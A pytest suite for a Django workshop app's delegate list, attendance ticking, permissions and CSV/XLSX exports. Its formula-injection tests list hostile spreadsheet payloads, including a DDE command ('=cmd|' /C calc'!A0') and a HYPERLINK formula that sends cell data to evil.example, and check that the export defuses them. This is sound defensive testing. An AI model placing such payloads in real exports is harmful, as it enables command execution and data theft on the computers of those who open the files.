"""Who comes, for those who run or organise a workshop: the list, the needs, who was there, and tables to take along."""

import csv
import datetime
import io
import logging
import re

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from factories import (
    DelegateFactory,
    MembershipFactory,
    OrganizationFactory,
    ParticipationFactory,
    PersonFactory,
    WorkingLanguageFactory,
    WorkshopFactory,
)
from form_reading import form_data
from openpyxl import load_workbook

from workshops.exporting import KINDS, neutral
from workshops.models import Delegate, Workshop

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()
PAGE = "/en/workspace/workshops/tour/delegates/"
TICK = f"{PAGE}attendance/"
TABLE = "/en/workspace/workshops/tour/delegates."


@pytest.fixture
def workshop():
    return WorkshopFactory(
        slug="tour", name_en="Tour of the lake", date_state="confirmed", starts_on=TODAY, takes_registrations=True
    )


@pytest.fixture
def lake():
    return OrganizationFactory(slug="lake", name_en="Fishers of the lake", country="KH")


@pytest.fixture
def coordinator(client):
    someone = PersonFactory(is_coordinator=True, language="en", name="Coordinator")
    client.force_login(someone)
    return someone


def as_(person):
    client = Client()
    client.force_login(person)
    return client


def text(response) -> str:
    html = response.content.decode()
    return " ".join(re.sub("<[^>]+>", " ", html[html.index("<body") : html.index("</main>")]).split())


# --- the list ---


def test_everybody_by_organisation_and_the_waiting_list_in_order(client, coordinator, workshop, lake):
    Workshop.objects.update(capacity=2)
    river = OrganizationFactory(name_en="People of the river", country="LA")
    DelegateFactory(workshop=workshop, organization=lake, name="Dara", diet="no pork", travel="by <b>bus</b>")
    DelegateFactory(workshop=workshop, organization=river, name="Khamla", diet="No pork", languages=["lo"])
    early = timezone.now() - datetime.timedelta(days=1)
    DelegateFactory(workshop=workshop, organization=river, name="Late", state="waiting")
    DelegateFactory(workshop=workshop, organization=lake, name="Early", state="waiting", queued_at=early)
    DelegateFactory(workshop=workshop, organization=lake, name="Gone", state="withdrawn")
    DelegateFactory(name="Elsewhere")
    WorkingLanguageFactory(workshop=workshop, language="km")
    page = client.get(PAGE)
    assert page["Cache-Control"] == "private, no-store"
    shown = text(page)
    # From Laos to the delta, then those who wait in the order of the list.
    words = ["People of the river", "Khamla", "Fishers of the lake", "Dara", "Waiting list", "Early", "Late"]
    assert (
        sorted(words, key=lambda word: shown.rindex(word) if word in ("Early", "Late") else shown.index(word)) == words
    )
    assert "Gone" not in shown
    assert "Elsewhere" not in shown
    assert "no pork: 2" in shown.lower()
    assert "1 person speaks none of the languages of the workshop." in shown
    assert "by &lt;b&gt;bus&lt;/b&gt;" in page.content.decode()
    assert "2 (room for 2)" in shown


def test_an_empty_list_says_so(client, coordinator, workshop):
    shown = text(client.get(PAGE))
    assert "Nobody is registered." in shown
    assert "XLSX" not in shown


def test_the_day_of_deletion_stands_there_and_soon_it_is_urgent(client, coordinator, workshop):
    DelegateFactory(workshop=workshop)
    assert "All of this is deleted on" in text(client.get(PAGE))
    assert '"notice bad apart">All of this' not in client.get(PAGE).content.decode()
    Workshop.objects.update(keep_days=14)
    assert '"notice bad apart">All of this' in client.get(PAGE).content.decode()
    assert "Note before that day who was there." in text(client.get(PAGE))
    Delegate.objects.all().delete()
    Workshop.objects.update(people_deleted_at=timezone.now())
    assert "The data of these people were deleted on" in text(client.get(PAGE))


def test_fewer_places_than_people_are_told(client, coordinator, workshop):
    DelegateFactory.create_batch(3, workshop=workshop)
    Workshop.objects.update(capacity=2)
    assert "1 person more comes than there is room for. Nobody who is registered is taken out." in text(
        client.get(PAGE)
    )


def test_managers_of_an_organiser_see_it_and_nobody_else_does(workshop, lake):
    """Editors of the organiser do not; neither do managers of organisations that only take part."""
    DelegateFactory(workshop=workshop, organization=lake, name="Secret Person")
    organiser, guest = OrganizationFactory(), OrganizationFactory()
    ParticipationFactory(workshop=workshop, organization=organiser, role="organiser")
    ParticipationFactory(workshop=workshop, organization=guest, role="speaker")
    ParticipationFactory(workshop=WorkshopFactory(), organization=guest, role="organiser")
    people = {
        200: [MembershipFactory(organization=organiser, role="manager").user],
        403: [
            MembershipFactory(organization=organiser, role="editor").user,
            MembershipFactory(organization=guest, role="manager").user,
            MembershipFactory(organization=lake, role="manager").user,
        ],
    }
    for status, those in people.items():
        for person in those:
            for address in (PAGE, TICK, f"{TABLE}csv", f"{TABLE}xlsx"):
                response = as_(person).get(address)
                assert response.status_code == status, (person, address)
                assert status == 200 or b"Secret Person" not in response.content
            assert as_(person).post(TICK).status_code == (302 if status == 200 else 403)


def queries(client, address) -> int:
    with CaptureQueriesContext(connection) as asked:
        assert client.get(address).status_code == 200
    return len(asked)


@pytest.mark.parametrize("address", [PAGE, TICK, f"{TABLE}csv", f"{TABLE}xlsx"])
def test_pages_ask_as_many_queries_for_three_as_for_one(client, coordinator, workshop, address):
    def more(count):
        for _one in range(count):
            DelegateFactory(workshop=workshop, registered_by=PersonFactory())
            DelegateFactory(workshop=workshop, state="waiting")

    more(1)
    client.get(address)
    first = queries(client, address)
    more(2)
    assert queries(client, address) == first
    assert first <= 13


# --- who was there ---


def test_who_was_there_is_ticked(client, coordinator, workshop, lake):
    one, two = (DelegateFactory(workshop=workshop, organization=lake, name=name) for name in ("A One", "B Two"))
    waits = DelegateFactory(workshop=workshop, organization=lake, name="C Three", state="waiting")
    page = client.get(TICK)
    assert "C Three" not in text(page)
    data = form_data(page)
    assert (data["shown"], data.get("ticked")) == ([str(one.pk), str(two.pk)], None)
    response = client.post(TICK, {**data, "ticked": [str(two.pk), str(waits.pk), "x", "９", "9" * 40, "-1"]})
    assert response.url == PAGE
    assert "Saved: one person was there." in text(client.get(PAGE))
    found = dict(Delegate.objects.values_list("name", "attended"))
    assert found == {"A One": False, "B Two": True, "C Three": None}
    data = form_data(client.get(TICK))
    assert (data["ticked"], data["seen"]) == ([str(two.pk)], [str(two.pk)])
    client.post(TICK, {**data, "ticked": []})
    assert not Delegate.objects.filter(attended=True).exists()


def test_nobody_is_ticked_before_it_begins(client, coordinator, workshop):
    one = DelegateFactory(workshop=workshop)
    Workshop.objects.update(starts_on=TODAY + datetime.timedelta(days=2))
    for response in (client.get(TICK), client.post(TICK, {"shown": one.pk, "ticked": one.pk})):
        assert response.url == PAGE
    one.refresh_from_db()
    assert one.attended is None
    assert "Note who was there" not in text(client.get(PAGE))


# --- tables ---


def table(client, ending) -> list[list]:
    """The rows of the table, the heads first; cells as the program reads them."""
    response = client.get(f"{TABLE}{ending}")
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="tour-delegates.{ending}"'
    assert response["Cache-Control"] == "private, no-store"
    if ending == "csv":
        assert response.content.startswith(b"\xef\xbb\xbf")
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_tables_hold_everybody(client, coordinator, workshop, lake):
    one = DelegateFactory(
        workshop=workshop,
        organization=lake,
        name="សុខ ដារ៉ា",
        email="dara@example.org",
        phone="012 345 678",
        language="km",
        languages=["km", "en"],
        travel="By bus\nat noon",
        attended=True,
    )
    DelegateFactory(workshop=workshop, organization=lake, name="B Two", state="waiting")
    DelegateFactory(workshop=workshop, organization=lake, name="C Three", state="withdrawn")
    heads = ["Organisation", "Name", "E-mail address", "Telephone", "Language of letters"]
    heads += ["Languages that the person speaks", "Travel", "What the person needs to take part", "Food", "State"]
    heads += ["Place in the waiting list", "Was there", "Registered"]
    first = ["Fishers of the lake", "សុខ ដារ៉ា", "dara@example.org", "012 345 678", "ភាសាខ្មែរ"]
    first += ["ភាសាខ្មែរ, English", "By bus\nat noon", "", "", "comes", "", "yes"]
    day = timezone.localdate(one.registered_at)
    rows = table(client, "csv")
    assert rows[:2] == [heads, [*first, day.isoformat()]]
    assert [row[1:2] + row[9:12] for row in rows[2:]] == [["B Two", "waits for a place", "1", ""]]
    rows = table(client, "xlsx")
    assert rows[0] == heads
    assert [cell or "" for cell in rows[1][:-1]] == first
    assert rows[1][-1].date() == day
    assert rows[2][10] == 1


@pytest.mark.parametrize("code", ["vi", "lo", "km"])
@pytest.mark.parametrize("ending", KINDS)
def test_the_tables_are_made_in_every_language(client, coordinator, workshop, lake, code, ending):
    DelegateFactory(workshop=workshop, organization=lake)
    response = client.get(f"{TABLE}{ending}".replace("/en/", f"/{code}/"))
    assert response.status_code == 200
    if ending == "csv":
        assert len(next(csv.reader([response.content.decode("utf-8-sig").splitlines()[0]]))) == 13


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "−1",
    "  =1",
    "\u200b=1",
    '"=1',
    "'=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
]


@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_begins_as_a_formula(words):
    assert neutral(words) == f"'{words[0]}{neutral(words)[2:]}"


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("rice;=1+1", "rice;'=1+1"),
        ("rice, =1", "rice, '=1"),
        ('rice";=1', "rice\";'=1"),
        ("rice\n＠SUM", "rice\n'＠SUM"),
        ("a\tb\t-1", "a\tb\t'-1"),
        ("rice;;  '+1", "rice;;  ''+1"),
    ],
)
def test_no_cell_begins_as_a_formula_where_cells_are_parted_by_other_signs(words, expected):
    assert neutral(words) == expected


@pytest.mark.parametrize(
    "words", ["", "Sok Dara", "e-mail", "no pork, no fish", "dara@example.org", "1 + 1 = 2", "ស៊ុខ-ដារ៉ា", "12:30–13:00"]
)
def test_plain_words_stay_as_they_are(words):
    assert neutral(words) == words


@pytest.mark.parametrize("words", FORMULAS)
def test_a_formula_is_words_in_both_tables(client, coordinator, workshop, lake, words):
    DelegateFactory(workshop=workshop, organization=lake, name=words, diet=words, phone=words[:40])
    row = table(client, "csv")[1]
    for cell in (row[1], row[3], row[8]):
        assert cell.startswith("'")
    response = client.get(f"{TABLE}xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    for column in (2, 4, 9):
        cell = sheet.cell(row=2, column=column)
        # A text, and one that stays a text when somebody edits it.
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
        assert cell.hyperlink is None
    assert sheet.cell(row=2, column=3).hyperlink is None


def test_a_long_text_is_not_lost(client, coordinator, workshop, lake):
    DelegateFactory(workshop=workshop, organization=lake, travel="x" * 40_000)
    assert len(table(client, "xlsx")[1][6]) == 32_000


def test_who_takes_a_table_is_noted(client, coordinator, workshop, lake, caplog):
    DelegateFactory(workshop=workshop, organization=lake, name="Sok Dara", email="dara@example.org")
    with caplog.at_level(logging.INFO, logger="workshops.delegate_views"):
        client.get(f"{TABLE}csv")
        as_(PersonFactory()).get(f"{TABLE}csv")
    (record,) = [one for one in caplog.records if one.name == "workshops.delegate_views"]
    assert record.getMessage() == f"Person {coordinator.pk} took the people of workshop tour (1 rows) as csv"
